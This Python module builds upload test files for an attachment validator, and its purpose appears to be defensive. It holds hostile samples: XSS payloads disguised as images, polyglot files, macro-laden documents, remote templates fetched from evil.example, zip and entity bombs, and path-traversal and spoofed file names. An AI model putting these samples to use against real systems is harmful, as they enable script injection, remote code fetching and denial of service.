"""Files as people attach them, and as those who mean harm would: made by code, each as its bytes."""
import io
import struct
import zipfile
import zlib

import openpyxl
from docx import Document
from PIL import Image, ImageDraw
from PIL.TiffImagePlugin import IFDRational

HTML = b"<script>alert(document.cookie)</script>"
OFFICE = "application/vnd.openxmlformats-officedocument."
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def picture(kind="JPEG", size=(640, 480), mode="RGB", colour=None, **how) -> bytes:
    """Upper half one colour, lower half another, so that its way up can be told."""
    image = Image.new(mode, size, colour if colour is not None else 0)
    if colour is None and mode in ("RGB", "RGBA"):
        draw = ImageDraw.Draw(image)
        draw.rectangle((0, 0, size[0], size[1] // 2), fill="red")
        draw.rectangle((0, size[1] // 2, size[0], size[1]), fill="blue")
    out = io.BytesIO()
    image.save(out, format=kind, **how)
    return out.getvalue()


def phone_photo(orientation=6) -> bytes:
    """As a phone writes it: lying on its side, with the place, the maker and a note in it."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x9286] = orientation, "Puhelimen valmistaja", "Asiakkaan luona"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (IFDRational(60), IFDRational(10), IFDRational(15)), "E", (IFDRational(24), IFDRational(56), IFDRational(15))
    return picture(size=(800, 600), exif=exif, comment=b"Asiakas Virtanen", icc_profile=b"ICC-PROFILE-BYTES", xmp=b"<x:xmpmeta>Virtanen</x:xmpmeta>")


def png_that_says(width, height) -> bytes:
    """A few bytes that claim to be a huge picture."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
            + chunk(b"IEND", b""))


def sixteen_bits() -> bytes:
    """A grey picture whose values need two bytes: dark on the left, light on the right."""
    image = Image.new("I;16", (256, 16))
    image.putdata([x * 257 for _y in range(16) for x in range(256)])
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def animated(kind="WEBP") -> bytes:
    frames = [Image.new("RGB", (64, 64), colour) for colour in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, format=kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def pdf(inside=b"") -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n" + inside + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def mp3(tag=b"", frames=8) -> bytes:
    """MPEG 1, layer III, 128 kbit/s, 44.1 kHz; `tag` is what its ID3 says."""
    size = len(tag) + 10
    id3 = b"ID3\x04\0\0" + bytes([size >> 21 & 127, size >> 14 & 127, size >> 7 & 127, size & 127]) + b"TIT2" + struct.pack(">I", len(tag)) + b"\0\0" + tag
    return (id3 if tag else b"") + (b"\xff\xfb\x90\x00" + b"\0" * 413) * frames


def docx() -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("Kirjaamisen ohje")
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


def archive(entries: dict, packing=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as made:
        for name, data in entries.items():
            made.writestr(name, data)
    return out.getvalue()


def office(main=f"{OFFICE}wordprocessingml.document.main+xml", extra=None, types="", head="") -> bytes:
    """The least that is an office file, with more in it."""
    listed = f'{head}<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
    return archive({"[Content_Types].xml": listed, "word/document.xml": "<document/>", **(extra or {})})


def pptx() -> bytes:
    return office(f"{OFFICE}presentationml.presentation.main+xml")


def fetching(kind="attachedTemplate", target="https://evil.example/macro.dotm") -> bytes:
    """A document that takes something from elsewhere when it is opened."""
    rels = f'<Relationships><Relationship Id="r1" Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return office(extra={"word/_rels/settings.xml.rels": rels})


def lying_entry() -> bytes:
    """Two entries that lie on each other, as the tightest bombs do."""
    data = bytearray(office(extra={"word/a.xml": "a" * 50, "word/b.xml": "b" * 50}))
    directory = data.rfind(b"PK\x01\x02")
    before = data.rfind(b"PK\x01\x02", 0, directory)
    data[directory + 42:directory + 46] = data[before + 42:before + 46]
    return bytes(data)


def encrypted_entry() -> bytes:
    data = bytearray(office())
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        data[place + 8] |= 1
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(data)


GOOD = {
    "kuva.jpg": picture(), "KUVA.JPEG": picture(), "kaavio.png": picture("PNG"), "valokuva.webp": picture("WEBP"), "ohje.pdf": pdf(), "ohje.docx": docx(),
    "esitys.pptx": pptx(), "taulukko.xlsx": xlsx(), "haastattelu.mp3": mp3(), "nimetty.mp3": mp3(b"\x03Haastattelu"),
}
BAD = {
    "svg called png": ("kuva.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg": ("kuva.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    "png called jpg": ("kuva.jpg", picture("PNG")),
    "gif that is a script": ("kuva.png", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    "html called jpg": ("kuva.jpg", HTML),
    "jpg that is html behind its head": ("kuva.jpg", b"\xff\xd8\xff\xe0" + HTML * 20),
    "jpg that was broken off": ("kuva.jpg", picture(size=(1200, 900), quality=95)[:6000]),
    "png that was broken off": ("kuva.png", picture("PNG", size=(1200, 900))[:-400]),
    "png of 50,000 by 50,000": ("kuva.png", png_that_says(50_000, 50_000)),
    "png just over the limit": ("kuva.png", png_that_says(8000, 5001)),
    "pdf behind html": ("ohje.pdf", HTML + pdf()),
    "pdf without its end": ("ohje.pdf", pdf()[:-8]),
    "pdf and zip at once": ("ohje.pdf", pdf() + archive({"a": "b"})),
    "mp3 that is html": ("aani.mp3", HTML * 100),
    "mp3 of a tag alone": ("aani.mp3", mp3(b"\x03Nimi", frames=0) + HTML * 50),
    "mp3 and zip at once": ("aani.mp3", mp3() + archive({"a": "b"})),
    "macros by their file": ("ohje.docx", office(extra={"word/vbaProject.bin": "x"})),
    "macros by their type": ("ohje.docx", office("application/vnd.ms-word.document.macroEnabled.main+xml")),
    "macros of another kind": ("taulukko.xlsx", office(f"{OFFICE}spreadsheetml.sheet.main+xml", extra={"xl/macrosheets/sheet1.xml": "x"})),
    "docm": ("ohje.docm", office("application/vnd.ms-word.document.macroEnabled.main+xml")),
    "a program inside": ("ohje.docx", office(extra={"word/embeddings/lasku.exe": "MZ"})),
    "template from elsewhere": ("ohje.docx", fetching()),
    "template from elsewhere, hidden": ("ohje.docx", fetching(target="&#104;ttps://evil.example/macro.dotm")),
    "template from a share": ("ohje.docx", fetching(target=r"\\evil.example\share\macro.dotm")),
    "object from elsewhere": ("ohje.docx", fetching("oleObject", "http://evil.example/object")),
    "zip called docx": ("ohje.docx", archive({"a.txt": "b"})),
    "xlsx called docx": ("ohje.docx", xlsx()),
    "zip": ("ohje.zip", archive({"a.txt": "b"})),
    "docx behind html": ("ohje.docx", HTML + docx()),
    "docx with something after it": ("ohje.docx", docx() + HTML),
    "bomb of one entry": ("ohje.docx", office(extra={"word/media/a.xml": b"\0" * 40_000_000})),
    "bomb of many entries": ("ohje.docx", office(extra={f"word/{n}.xml": "" for n in range(5001)})),
    "bomb of entities": ("ohje.docx", office(head='<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;">]>')),
    "entries that lie on each other": ("ohje.docx", lying_entry()),
    "encrypted": ("ohje.docx", encrypted_entry()),
    "old office, or encrypted": ("ohje.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "paths that lead out": ("ohje.docx", office(extra={"../../etc/passwd": "x"})),
    "nothing at all": ("kuva.jpg", b""),
    "no extension": ("kuva", picture()),
    "program": ("lasku.pdf.exe", b"MZ"),
    "page": ("ohje.html", HTML),
}
NAMES = {  # as it was sent -> as it is shown
    "'><script>alert(1)</script>.png": "script.png",  # what stands before a slash is a folder
    "a'><img src=x onerror=alert(1)>.png": "a' img src=x onerror=alert(1).png",
    'kaavio "uusi".png': "kaavio uusi.png",
    "kuva\u202egnp.exe.png": "kuvagnp.exe.png",
    "../../etc/passwd.png": "passwd.png",
    "C:\\Users\\Aino\\kuva.png": "kuva.png",
    "ku\x00va\x7f\u200b.png": "kuva.png",
    "x" * 300 + ".png": "x" * 115 + ".png",
    "...png": None,  # only the extension: called "file" in the reader's language
    "Ka\u0308yntikaavio 1.PNG": "Käyntikaavio 1.png",
    "  kaavio   (kopio) .png": "kaavio (kopio).png",
}
